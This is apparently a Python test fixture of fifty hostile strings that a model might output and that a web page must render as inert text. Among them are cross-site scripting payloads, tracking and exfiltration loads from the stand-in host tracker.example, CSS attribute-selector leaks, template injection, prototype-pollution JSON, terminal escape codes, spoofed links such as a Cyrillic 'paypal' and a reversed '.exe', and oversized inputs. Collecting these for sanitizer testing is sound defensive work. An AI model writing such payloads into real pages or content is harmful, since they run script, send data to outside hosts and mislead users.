"""Fifty things that a model may write, and that pages must show as text."""
# ruff: noqa: E501 -- a reply a line

import base64

TRAP = "https://tracker.example"
"""A place that no page may ask for anything."""

_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'><image href='{TRAP}/x.png'/></svg>"
_DATA = "data:image/svg+xml;base64," + base64.b64encode(_SVG.encode()).decode()
_PAGE = "data:text/html;base64," + base64.b64encode(b"<script>opener.pwned=1</script>").decode()

HOSTILE = (
    # Scripts, and what runs without one.
    "<script>window.pwned = 1</script><script src=//tracker.example/x.js></script>",
    "</script><script>window.pwned = 2</script> --></style></title></textarea></noscript></template><script>pwned=2</script>",
    "<img src=x onerror='window.pwned = 3'><img src=/nowhere.png onerror=pwned=3>",
    "<svg onload='window.pwned = 4'><animate onbegin='window.pwned = 4' attributeName=x dur=1s></svg>",
    "<svg><script href='data:text/javascript,window.pwned=5'/><foreignObject><body onload=pwned=5></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>pwned=6</script></svg>#x'/><a xlink:href='javascript:pwned=6'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=7></style></mglyph></table></mtext></math>",
    "<math href='javascript:window.pwned=8'>x</math> <maction actiontype='statusline#javascript:pwned=8'>x</maction>",
    "<details open ontoggle='window.pwned=9'><summary onclick=pwned=9>x</summary></details><marquee onstart=pwned=9>x</marquee>",
    "<input autofocus onfocus='window.pwned=10'><select autofocus onfocus=pwned=10></select><button popovertarget=x>x</button>",
    "<video><source onerror='window.pwned=11'></video><audio src=x onerror=pwned=11></audio><object data='javascript:pwned=11'></object>",
    "<iframe srcdoc='<script>parent.pwned = 12</script>'></iframe><iframe src='javascript:parent.pwned=12'></iframe>",
    "</pre></textarea></title></style><embed src='javascript:window.pwned=13'><object data=//tracker.example/x.swf></object>",
    "<div id=app></div><div id=page name=querySelector></div><form name=body><input name=firstChild></form>",
    # Links and forms.
    "[a link](javascript:window.pwned=15) and [another](data:text/html,<script>window.pwned=15</script>)",
    f"[page]({_PAGE}) [cased](JaVaScRiPt:pwned=16) [spaced](java\tscript:pwned=16) [entity](&#106;avascript:pwned=16)",
    "[vb](vbscript:msgbox) [file](file:///etc/passwd) [blob](blob:x) [rel](//tracker.example) [x]: javascript:pwned=17\n\n[x]",
    "<a href=' javascript:window.pwned=18'>x</a> <a href='https://tracker.example' ping='https://tracker.example/p' target=_top>y</a>",
    "<form action=javascript:pwned=19><button formaction='javascript:pwned=19'>go</button></form><isindex action=javascript:pwned=19>",
    "<https://tracker.example/?q=1> www.tracker.example mailto:x@tracker.example <base href=//tracker.example/>",
    # What is fetched from elsewhere.
    f"![a picture]({TRAP}/pixel.png) **bold** ![x](javascript:window.pwned=21) ![svg]({_DATA})",
    f"<img srcset='{TRAP}/a.png 1x, {TRAP}/b.png 2x' src={TRAP}/c.png><picture><source srcset={TRAP}/d.png></picture>",
    f"<link rel=stylesheet href={TRAP}/x.css><link rel=preload as=script href={TRAP}/x.js><link rel=prefetch href={TRAP}>",
    f"<meta http-equiv=refresh content='0;url={TRAP}'><meta http-equiv=Content-Security-Policy content='default-src *'>",
    f"<video poster={TRAP}/p.png src={TRAP}/v.mp4 autoplay></video><track src={TRAP}/t.vtt><body background={TRAP}/b.png>",
    # Style.
    "<style>* { display: none !important } body { background: url(//tracker.example/x.png) }</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:url(//tracker.example/x);width:99999px'>over all</div>",
    "<style>@import '//tracker.example/x.css'; input[value^=a] { background: url(//tracker.example/a) }</style><p class=app>",
    # LaTeX.
    "$\\href{javascript:window.pwned=29}{x}$ $\\url{javascript:pwned=29}$ $\\includegraphics{https://tracker.example/x.png}$",
    "$\\htmlData{x=y}{z}$ $\\htmlClass{x}{y}$ $\\htmlId{page}{y}$ $\\htmlStyle{position:fixed}{y}$ $\\unicode{x}$",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{99999em}{99999em}$ $\\kern 99999em x$ $\\raisebox{-9999em}{x}$ $$\\begin{matrix}"
    + "x&" * 400
    + "\\end{matrix}$$",
    "$"
    + "{" * 300
    + "x"
    + "}" * 300
    + "$ $\\frac" * 200
    + " $$"
    + "\\sqrt{" * 120
    + "x"
    + "}" * 120
    + "$$ \\(unclosed \\[ $",
    # Markdown.
    "```html\n<script>window.pwned = 33</script>\n```\n\n~~~~\n</code></pre><img src=x onerror=pwned=33>\n~~~~\n\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=pwned=34> | `</code><script>pwned=34</script>` |\n"
    + "| x " * 200
    + "|",
    ">" * 400 + " deep\n\n" + "\n".join("  " * at + "- deeper" for at in range(120)),
    "*" * 5_000 + "_" * 5_000 + "[" * 5_000 + "](" * 2_000 + "<" * 5_000 + "`" * 999,
    "<!-- <script>pwned=37</script> --><![CDATA[<script>pwned=37</script>]]><?xml version='1.0'?><!DOCTYPE html><%= pwned %>",
    "- [x] <input type=checkbox onclick=pwned=38>\n\n[^1]\n\n[^1]: <script>pwned=38</script>\n\nhttps://tracker.example/\u202egnp.exe",
    # Templates and data that others might read.
    "{{constructor.constructor('window.pwned = 39')()}} ${window.pwned = 39} #{pwned} {% raw %} {{7*7}} @{pwned} [[x]]",
    '{"items": {"preferred": {"answer": "first", "confidence": 1}}, "__proto__": {"pwned": 40}, "critique": "mine"}',
    '\n\ndata: {"events":[{"kind":"sample_done"}]}\n\nevent: runs\n\n'
    + '[{"constructor": {"prototype": {"pwned": 41}}},' * 300,
    # Characters.
    "\u202egnirts desrever\u202c \u200b\u2066hidden\u2069 \x1b[31mred\x1b[0m \x07\x00 nul",
    "\x1b]8;;https://tracker.example\x07link\x1b]8;;\x07 \x1b[2J\x1b[1;1H\x1b]0;title\x07 \x9b31m \x08\x08\x08 \x7f \r over\rwritten",
    "Z" + "\u0301\u0317\u0348" * 400 + " many accents " + "\u0489" * 200,
    "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🇩🇪 "
    + "👍🏿" * 300
    + " \ufe0f\ufe0f\ufe0f \U000e0041\U000e0042\U000e007f "
    + "\U0001f468\u200d" * 200,
    "\u200b\u200c\u200d\u2060\ufeff\u00ad" * 300 + "p\u0430ypal.com \u1160\u3164\u2800 \u034f\u061c\u180e",
    "مرحبا بالعالم <b>שלום</b> 123 \u202b\u202a\u202d" + "ا" * 3_000 + " (אבג) [link](javascript:pwned=47)",
    "W" * 30_000 + " " + "\u3042" * 5_000 + " https://tracker.example/" + "a" * 8_000,
    "".join(f"<{tag}>" for tag in ("div", "table", "tr", "td", "b", "p")) * 400 + "\n" * 3_000 + "the end",
    "A" * 5_000_000,
)
"""What models may write, and pages must show as text."""

assert len(HOSTILE) == 50
